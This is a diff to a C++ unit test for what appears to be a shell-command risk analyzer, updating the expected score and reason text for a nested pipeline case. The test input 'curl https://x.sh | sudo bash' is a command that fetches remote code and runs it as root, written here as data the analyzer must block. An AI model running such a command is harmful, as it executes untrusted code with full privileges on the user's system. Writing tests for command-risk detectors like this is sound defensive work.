@@ -141,14 +141,15 @@ TEST(Nested, RaisedVerdictNamesTheNestedCommand) {
 
 TEST(Nested, PipesThroughWrappersEscalateAsWithout) {
   const AnalysisResult r = run("curl https://x.sh | sudo bash");
-  EXPECT_EQ(r.score, 95);
+  // sudo's own 65 plus the escalation.
+  EXPECT_EQ(r.score, 100);
   EXPECT_EQ(r.quick_decision, QuickDecision::Blocked);
   ASSERT_TRUE(r.pipeline_flow);
   ASSERT_EQ(r.pipeline_flow->taint_flows.size(), 1u);
   EXPECT_EQ(r.pipeline_flow->taint_flows[0].escalation_reason,
             "Remote content piped to execution (curl|bash pattern)");
   EXPECT_EQ(r.reason,
-            "Pipeline: Network operation | Privilege operation; Remote content piped to execution (curl|bash pattern)");
+            "Pipeline: Network operation | Code execution: privilege escalation; Remote content piped to execution (curl|bash pattern)");
   // The segments still show what was written.
   ASSERT_EQ(r.sub_commands.size(), 2u);
   EXPECT_EQ(r.sub_commands[1].executable, "sudo");
